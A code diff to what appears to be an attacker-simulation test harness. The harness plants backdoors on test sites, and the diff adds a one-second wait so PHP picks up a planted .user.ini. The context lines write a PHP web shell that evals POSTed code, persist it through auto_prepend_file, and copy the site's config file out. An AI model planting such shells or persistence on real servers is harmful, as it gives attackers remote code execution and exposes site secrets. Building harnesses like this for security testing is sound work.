@@ -1,6 +1,7 @@
 import { createHash, randomBytes } from 'node:crypto';
 import { chown, copyFile, mkdir, readFile, writeFile } from 'node:fs/promises';
 import { dirname, join } from 'node:path';
+import { setTimeout as wait } from 'node:timers/promises';
 import { isRoot, web } from '../processes/account.ts';
 import type { FleetSite } from '../site.ts';
 import { ask } from './attacker.ts';
@@ -36,6 +37,7 @@ export async function leaveFiles(site: FleetSite): Promise<{ doors: Door[]; shel
     `<?php if (${asked('p')}) { echo 'before:', $_REQUEST['p']; @eval($_POST['x'] ?? ''); }\n`,
   );
   await put(site, iniPath, `auto_prepend_file = ${join(site.docroot, prependedPath)}\n`);
+  await nextSecond();
   await put(site, copyPath, await readFile(site.configPath, 'utf8'));
   const says = async (path: string, words: string) => (await ask(site, path)).body.includes(words);
   return {
@@ -52,6 +54,12 @@ export async function leaveFiles(site: FleetSite): Promise<{ doors: Door[]; shel
       },
     },
   };
+}
+
+/** PHP looks for a .user.ini once a second at most (php_cgi_ini_activate_user_config: `request_time > entry->expires`), each of its processes for itself: until then it may go by there being none. */
+async function nextSecond(): Promise<void> {
+  const second = () => Math.floor(Date.now() / 1000);
+  for (const written = second(); second() === written; ) await wait(20);
 }
 
 const door = (name: string, path: string, open: () => Promise<boolean>): Door => ({
